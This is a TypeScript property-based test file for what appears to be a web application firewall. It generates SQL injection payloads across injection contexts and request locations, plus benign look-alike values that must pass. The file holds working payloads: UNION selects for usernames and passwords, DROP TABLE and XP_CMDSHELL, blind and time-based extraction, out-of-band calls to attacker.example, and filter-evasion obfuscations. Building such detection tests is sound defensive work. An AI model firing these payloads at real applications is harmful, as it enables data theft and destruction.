@@ -1,0 +1,331 @@
+// Generated SQL injection variants, and generated benign look-alikes. The attack generator
+// builds payloads from SQL pieces (breakouts per injection context, tautologies, UNION SELECT,
+// stacked, time-, error- and out-of-band queries), renders them through the obfuscations
+// filters are evaded with (comments and odd blanks for spaces, version comments, case mixing,
+// hex/char()/concatenated strings, scientific numbers, backticks, parentheses for spaces), and
+// places them where an application reads them (query, form, JSON, cookie, header). Every attack
+// must be blocked at PL1; no benign value may be. Seed and runs: SQLI_GEN_SEED, SQLI_GEN_RUNS.
+import { beforeAll, describe, expect, it } from "vitest";
+import fc from "fast-check";
+import { loadHarness, type Harness } from "../support/harness.js";
+import { inspect, type Req } from "../support/engine.js";
+
+let h: Harness;
+beforeAll(async () => {
+  h = await loadHarness();
+});
+
+const SEED = Number(process.env.SQLI_GEN_SEED ?? 20261128);
+const RUNS = Number(process.env.SQLI_GEN_RUNS ?? 400);
+
+// ---- SQL pieces -------------------------------------------------------------------------
+// A payload is a list of pieces; rendering decides how each is spelled.
+type Piece =
+  | { k: "kw"; v: string } // keyword or function name
+  | { k: "sp" } // a blank the SQL needs
+  | { k: "sp0" } // a blank the SQL may drop
+  | { k: "id"; v: string } // identifier
+  | { k: "num"; v: number }
+  | { k: "str"; v: string; plain?: boolean } // string literal (plain: only a quoted literal is valid there)
+  | { k: "raw"; v: string }; // punctuation, operators, quotes of the breakout
+
+const kw = (v: string): Piece => ({ k: "kw", v });
+const id = (v: string): Piece => ({ k: "id", v });
+const num = (v: number): Piece => ({ k: "num", v });
+const str = (v: string, plain = false): Piece => ({ k: "str", v, plain });
+const raw = (v: string): Piece => ({ k: "raw", v });
+const SP: Piece = { k: "sp" };
+const SP0: Piece = { k: "sp0" };
+
+/** Tiny SQL template language: words in UPPER case are keywords, a blank is a needed blank, `^` an optional one,
+ *  #n a number, $s a string ($$s: one that must stay a quoted literal), @x an identifier; anything else is punctuation. */
+function sql(template: string): Piece[] {
+  const out: Piece[] = [];
+  for (const part of template.split(/(\s+|\^)/)) {
+    if (part === "") continue;
+    if (part === "^") { out.push(SP0); continue; }
+    if (/^\s+$/.test(part)) { out.push(SP); continue; }
+    let seen = 0;
+    for (const m of part.matchAll(/#(\d+)|\$(\$?)([^\s,()=]+)|@([A-Za-z_][A-Za-z0-9_]*)|(@@[a-z_]+)|([A-Z_][A-Z0-9_]*)|([^#$@A-Z]+?)(?=#|\$|@|[A-Z_]|$)/g)) {
+      seen += m[0].length;
+      if (m[1] !== undefined) out.push(num(Number(m[1])));
+      else if (m[3] !== undefined) out.push(str(m[3], m[2] === "$"));
+      else if (m[4] !== undefined) out.push(id(m[4]));
+      else if (m[5] !== undefined) out.push(raw(m[5]));
+      else if (m[6] !== undefined) out.push(kw(m[6]));
+      else if (m[7] !== undefined) out.push(raw(m[7]));
+    }
+    if (seen !== part.length) throw new Error(`template piece not understood: ${part}`);
+  }
+  return out;
+}
+
+// Attack bodies (what follows the breakout). Each is valid SQL once spliced after its context's breakout.
+const TAUTOLOGIES = [
+  "OR #1=#1", "OR #1^=^#1", "AND #1=#2", "OR $a=$a", "OR #2>#1", "OR TRUE", "|| #1=#1", "OR NOT #1=#2", "AND #3-#2=#1",
+  "OR #1 IN (#1,#2)", "OR $x LIKE $x", "XOR #1=#1", "OR #1 BETWEEN #0 AND #2",
+];
+const UNIONS = [
+  "UNION SELECT #1,#2,#3", "UNION ALL SELECT NULL,NULL,NULL", "UNION SELECT @@version,#2", "UNION ALL SELECT USER(),DATABASE()",
+  "UNION SELECT @table_name,#2 FROM INFORMATION_SCHEMA.TABLES", "UNION SELECT @username,@password FROM @users",
+  "UNION DISTINCT SELECT #1,CONCAT(@username,$:,@password) FROM @users", "UNION SELECT NULL,VERSION()",
+];
+const STACKED = [
+  "; DROP TABLE @users", "; SELECT PG_SLEEP(#5)", "; EXEC XP_CMDSHELL($dir)", "; INSERT INTO @users VALUES ($x,$y)",
+  "; UPDATE @users SET @role=$admin WHERE @id=#1", "; SHUTDOWN", "; WAITFOR DELAY $$0:0:5", "; DELETE FROM @users",
+  "; DECLARE @@q VARCHAR(#99)",
+];
+const TIME_BASED = [
+  "AND SLEEP(#5)", "OR SLEEP(#5)", "AND (SELECT #1 FROM (SELECT SLEEP(#5))@a)", "AND BENCHMARK(#5000000,MD5(#1))",
+  "OR IF(#1=#1,SLEEP(#5),#0)", "AND #1=(SELECT #1 FROM PG_SLEEP(#5))", "WAITFOR DELAY $$0:0:5", "RLIKE SLEEP(#5)",
+  "AND (SELECT COUNT(*) FROM @users)>#0 AND SLEEP(#5)", "OR #1=(CASE WHEN (#1=#1) THEN PG_SLEEP(#5) ELSE #0 END)",
+];
+const ERROR_BASED = [
+  "AND EXTRACTVALUE(#1,CONCAT(0x7e,VERSION()))", "AND UPDATEXML(#1,CONCAT(0x7e,USER()),#1)", "AND #1=CONVERT(INT,@@version)",
+  "AND #1=CAST((SELECT VERSION()) AS INT)", "OR #1=CONVERT(INT,(SELECT DB_NAME()))",
+  "AND (SELECT #1 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(#0)*#2))@x FROM INFORMATION_SCHEMA.TABLES GROUP BY @x)@a)",
+  "AND EXP(~(SELECT * FROM (SELECT USER())@a))",
+];
+const BLIND = [
+  "AND ASCII(SUBSTRING((SELECT @password FROM @users LIMIT 1),#1,#1))>#64", "AND LENGTH(DATABASE())>#1",
+  "AND SUBSTR(@@version,#1,#1)=$5", "AND ORD(MID(USER(),#1,#1))>#100", "AND (SELECT COUNT(*) FROM @users)>#0",
+];
+const OUT_OF_BAND = [
+  "; EXEC MASTER..XP_DIRTREE $\\\\attacker.example\\a", "AND LOAD_FILE(CONCAT($\\\\\\\\,VERSION(),$.attacker.example\\\\a))",
+  "AND #1=UTL_HTTP.REQUEST($http://attacker.example/)", "; COPY (SELECT $x) TO PROGRAM $nslookup", "UNION SELECT #1 INTO OUTFILE $/tmp/x",
+];
+const ORDER_BY_BODIES = [
+  ", (SELECT CASE WHEN (#1=#1) THEN #1 ELSE #1/#0 END)", ", IF(#1=#1,SLEEP(#5),#0)", " ,(SELECT #1 FROM PG_SLEEP(#5))",
+  ", EXTRACTVALUE(#1,CONCAT(0x7e,VERSION()))",
+];
+const FAMILIES = { TAUTOLOGIES, UNIONS, STACKED, TIME_BASED, ERROR_BASED, BLIND, OUT_OF_BAND };
+const BODIES = Object.values(FAMILIES).flat();
+
+// ---- contexts -----------------------------------------------------------------------------
+// An injection context: the breakout that leaves the application's literal, and how the tail
+// deals with what the application's query still has after the value (a comment that truncates
+// it, or re-opening its quote).
+interface Context { name: string; open: string[]; tails: string[] }
+const CONTEXTS: Context[] = [
+  { name: "numeric", open: ["1", "-1", "0", "1e0", "1.", "42"], tails: ["", "-- -", "#", "/*", ";--"] },
+  { name: "single-quoted", open: ["x'", "'", "admin'", "1'"], tails: ["-- -", "#", "/*", " AND 'a'='a", " OR '1'='", ";--"] },
+  { name: "double-quoted", open: ["x\"", "\"", "1\""], tails: ["-- -", "#", " AND \"a\"=\"a", ";--"] },
+  { name: "parenthesised", open: ["1)", "x')", "1))", "x\")"], tails: ["-- -", "#", ";--"] },
+  { name: "LIKE", open: ["%'", "abc%'", "%\""], tails: ["-- -", "#", " AND '%'='"] },
+];
+
+// ---- rendering ------------------------------------------------------------------------------
+interface Style {
+  blank: string; // what stands for a space
+  mixCase: boolean;
+  versionComments: boolean;
+  backticks: boolean;
+  strings: "quote" | "hex" | "char" | "concat" | "pipes";
+  sciNumbers: boolean;
+  dropOptional: boolean;
+  seed: number;
+}
+
+const BLANKS = [" ", "  ", "/**/", "/*x*/", "\n", "\t", "\f", "\r\n", "\u00a0", "\v"];
+
+function mix(word: string, seed: number): string {
+  let out = "";
+  for (let i = 0; i < word.length; i++) out += (seed >> i % 16) & 1 ? word[i].toLowerCase() : word[i].toUpperCase();
+  return out;
+}
+
+function hex(s: string): string {
+  return "0x" + Buffer.from(s).toString("hex");
+}
+
+function renderString(v: string, st: Style, q: string): string {
+  switch (st.strings) {
+    case "hex": return v.length > 0 ? hex(v) : `${q}${q}`;
+    case "char": return `CHAR(${[...v].map((c) => c.charCodeAt(0)).join(",")})`;
+    case "concat": return v.length > 1 ? `CONCAT(${q}${v.slice(0, 1)}${q},${q}${v.slice(1)}${q})` : `${q}${v}${q}`;
+    case "pipes": return v.length > 1 ? `${q}${v.slice(0, 1)}${q}||${q}${v.slice(1)}${q}` : `${q}${v}${q}`;
+    default: return `${q}${v}${q}`;
+  }
+}
+
+function render(pieces: Piece[], st: Style, quote = "'"): string {
+  let out = "";
+  let n = st.seed;
+  for (let i = 0; i < pieces.length; i++) {
+    const p = pieces[i];
+    n = (n * 1103515245 + 12345) >>> 0;
+    switch (p.k) {
+      case "sp": out += st.blank; break;
+      case "sp0": out += st.dropOptional ? "" : st.blank; break;
+      case "kw": {
+        const word = st.mixCase ? mix(p.v, n >>> 8) : p.v;
+        // version comments around statement words only: /*!50000UNION*/ /*!SELECT*/
+        out += st.versionComments && /^(UNION|SELECT|AND|OR|FROM|SLEEP)$/.test(p.v) ? `/*!${n & 1 ? "50000" : ""}${word}*/` : word;
+        break;
+      }
+      case "id": out += st.backticks ? `\`${p.v}\`` : p.v; break;
+      case "num": out += st.sciNumbers && Number.isInteger(p.v) && p.v < 100 ? `${p.v}e0` : String(p.v); break;
+      case "str": out += p.plain ? `${quote}${p.v}${quote}` : renderString(p.v, st, quote); break;
+      case "raw": out += p.v; break;
+    }
+  }
+  return out;
+}
+
+const style = fc.record({
+  blank: fc.constantFrom(...BLANKS),
+  mixCase: fc.boolean(),
+  versionComments: fc.boolean(),
+  backticks: fc.boolean(),
+  strings: fc.constantFrom("quote" as const, "hex" as const, "char" as const, "concat" as const, "pipes" as const),
+  sciNumbers: fc.boolean(),
+  dropOptional: fc.boolean(),
+  seed: fc.nat(),
+});
+
+// ---- placement --------------------------------------------------------------------------------
+/** Percent-encodes a value as a browser or a tool would (bytes above 0x7e raw as %XX, `+` for spaces optionally). */
+function urlEncode(v: string, plus: boolean): string {
+  const bytes = Buffer.from(v, "latin1");
+  let out = "";
+  for (const b of bytes) {
+    const c = String.fromCharCode(b);
+    if (/[A-Za-z0-9_.~-]/.test(c)) out += c;
+    else if (b === 0x20 && plus) out += "+";
+    else out += "%" + b.toString(16).toUpperCase().padStart(2, "0");
+  }
+  return out;
+}
+
+type Place = "query" | "form" | "json" | "cookie" | "header" | "path";
+const PLACES: Place[] = ["query", "form", "json", "cookie", "header", "path"];
+
+function request(place: Place, value: string, plus: boolean): Req {
+  const host: [string, string] = ["host", "shop.local"];
+  switch (place) {
+    case "query": return { path: `/items?id=${urlEncode(value, plus)}&sort=asc`, headers: [host] };
+    case "form": return { method: "POST", path: "/login", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `user=${urlEncode(value, plus)}&pass=x` };
+    case "json": return { method: "POST", path: "/api/items", headers: [host, ["content-type", "application/json"]], body: JSON.stringify({ filter: { id: value }, page: 1 }) };
+    case "cookie": return { path: "/", headers: [host, ["cookie", `lang=en; sid=${urlEncode(value, false)}`]] };
+    case "header": return { path: "/", headers: [host, ["x-forwarded-for", value.replace(/[\r\n]/g, " ")]] };
+    case "path": return { path: `/items/${urlEncode(value, false)}/reviews`, headers: [host] };
+  }
+}
+
+/** The value JSON, headers and paths carry: no raw non-UTF-8 byte (a 0xA0 blank only travels percent-encoded). */
+function blankFits(place: Place, blank: string): boolean {
+  if (blank === "\u00a0") return place === "query" || place === "form" || place === "cookie" || place === "path";
+  if (place === "header") return !/[\r\n\f\v]/.test(blank);
+  return true;
+}
+
+// ---- generators ---------------------------------------------------------------------------------
+const attack = fc
+  .record({
+    ctx: fc.constantFrom(...CONTEXTS),
+    body: fc.constantFrom(...BODIES),
+    st: style,
+    place: fc.constantFrom(...PLACES),
+    plus: fc.boolean(),
+    o: fc.nat(),
+    tl: fc.nat(),
+  })
+  .filter(({ st, place }) => blankFits(place, st.blank))
+  .map(({ ctx, body, st, place, plus, o, tl }) => {
+    const open = ctx.open[o % ctx.open.length];
+    const quote = ctx.name === "double-quoted" ? "\"" : "'";
+    const tail = ctx.tails[tl % ctx.tails.length];
+    // a blank after the breakout unless the body starts with punctuation (`;`, `||`)
+    const lead = /^[;|,]/.test(body) ? "" : st.blank;
+    const value = open + lead + render(sql(body), st, quote) + (tail.startsWith(" ") ? st.blank + tail.slice(1) : tail);
+    return { value, place, plus, req: request(place, value, plus) };
+  });
+
+const orderBy = fc
+  .record({ col: fc.constantFrom("name", "price", "1", "id desc"), body: fc.constantFrom(...ORDER_BY_BODIES), st: style, place: fc.constantFrom<Place>("query", "json", "form") })
+  .filter(({ st, place }) => blankFits(place, st.blank))
+  .map(({ col, body, st, place }) => {
+    const value = col + render(sql(body), st);
+    return { value, place, plus: false, req: request(place, value, false) };
+  });
+
+// Benign values that look like SQL to a careless filter.
+const NAMES = ["O'Brien", "D'Angelo", "O'Neil-Smith", "Ngũgĩ wa Thiong'o", "Mary-Kate O'Hara", "Jean-Luc d'Arcy", "L'Oréal"];
+const PROSE = [
+  "Please select the items from the list below",
+  "I'd like to select a seat from row 5",
+  "Don't drop the ball on this one",
+  "We met at Union Station and had a drink",
+  "Sort them by date, or by price if you prefer",
+  "order by tomorrow for delivery on Friday",
+  "Where's the update from the team?",
+  "Insert coin to continue; then select your player",
+  "It's 5 o'clock somewhere, isn't it?",
+  "The union of two sets contains all elements from both",
+  "Delete my account, please: I no longer use it",
+  "rock 'n' roll and blues, 1950s - 1970s",
+  "My password is not 1234 or 0000 anymore",
+  "Is 2 > 1? Yes, it always is.",
+  "sleep is important: 8 hours a day",
+  "Use char(10) for a line break in Excel",
+];
+const CODE_COMMENTS = [
+  "// TODO: replace SELECT * with explicit columns",
+  "# fetch users with SELECT name FROM users WHERE id = ?",
+  "/* uses the orders table; see the union of both reports */",
+  "-- reviewed by Ann, 2024-03-05",
+  "query = db.prepare(\"SELECT id FROM t WHERE a = ?\")",
+];
+const NUMBERS = ["555-123-4567", "978-3-16-148410-0", "2024-01-05", "+1 (555) 010-9999", "12-34-56", "4111-1111-1111-1111", "v1.2.3-rc1", "-42", "3.14e-10"];
+const EMAILS = ["o'brien@example.com", "ann.lee+shop@mail.example.org", "first.last@sub.domain.co.uk"];
+const URLS = ["https://example.com/search?q=select+from&order=desc", "http://shop.local/items?id=1&sort=price", "https://en.wikipedia.org/wiki/Union_(set_theory)"];
+
+const benignText = fc.oneof(
+  fc.constantFrom(...NAMES, ...PROSE, ...CODE_COMMENTS, ...NUMBERS, ...EMAILS, ...URLS),
+  fc.tuple(fc.constantFrom(...NAMES), fc.constantFrom(...PROSE)).map(([n, p]) => `${n}: ${p}`),
+  fc.tuple(fc.constantFrom(...PROSE), fc.constantFrom(...NUMBERS)).map(([p, n]) => `${p} (${n})`),
+);
+const benign = fc
+  .record({ value: benignText, place: fc.constantFrom<Place>("query", "form", "json", "cookie", "header"), plus: fc.boolean() })
+  .map(({ value, place, plus }) => ({ value, place, plus, req: request(place, value, plus) }));
+
+// ---- properties -----------------------------------------------------------------------------------
+describe("generated SQL injection variants", () => {
+  it("blocks every generated attack at PL1, in every context and place", () => {
+    fc.assert(
+      fc.property(fc.oneof({ weight: 5, arbitrary: attack }, { weight: 1, arbitrary: orderBy }), ({ value, place, req }) => {
+        const v = inspect(h, req);
+        expect(v.attack, `${place}: ${JSON.stringify(value)} scored ${v.score}`).toBe(true);
+      }),
+      { seed: SEED, numRuns: RUNS },
+    );
+  });
+
+  it("lets every generated benign look-alike through at PL1", () => {
+    fc.assert(
+      fc.property(benign, ({ value, place, req }) => {
+        const v = inspect(h, req);
+        expect(v.attack, `${place}: ${JSON.stringify(value)} scored ${v.score}: ${v.matches.map((m) => m.id).join(",")}`).toBe(false);
+      }),
+      { seed: SEED, numRuns: RUNS },
+    );
+  });
+});
+
+// Exploration: SQLI_GEN_SURVEY=N lists every miss among N samples instead of stopping at the first.
+if (process.env.SQLI_GEN_SURVEY) {
+  it("survey", () => {
+    const n = Number(process.env.SQLI_GEN_SURVEY);
+    const misses: string[] = [];
+    for (const a of fc.sample(fc.oneof({ weight: 5, arbitrary: attack }, { weight: 1, arbitrary: orderBy }), { seed: SEED, numRuns: n })) {
+      const v = inspect(h, a.req);
+      if (!v.attack) misses.push(`${a.place}\t${v.score}\t${JSON.stringify(a.value).replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`)}`);
+    }
+    const fps: string[] = [];
+    for (const b of fc.sample(benign, { seed: SEED, numRuns: n })) {
+      const v = inspect(h, b.req);
+      if (v.attack) fps.push(`${b.place}\t${v.score}\t${JSON.stringify(b.value)}\t${v.matches.map((m) => m.id).join(",")}`);
+    }
+    console.log(`MISSES ${misses.length}/${n}\n${misses.join("\n")}\nFPS ${fps.length}/${n}\n${[...new Set(fps)].join("\n")}`);
+  });
+}
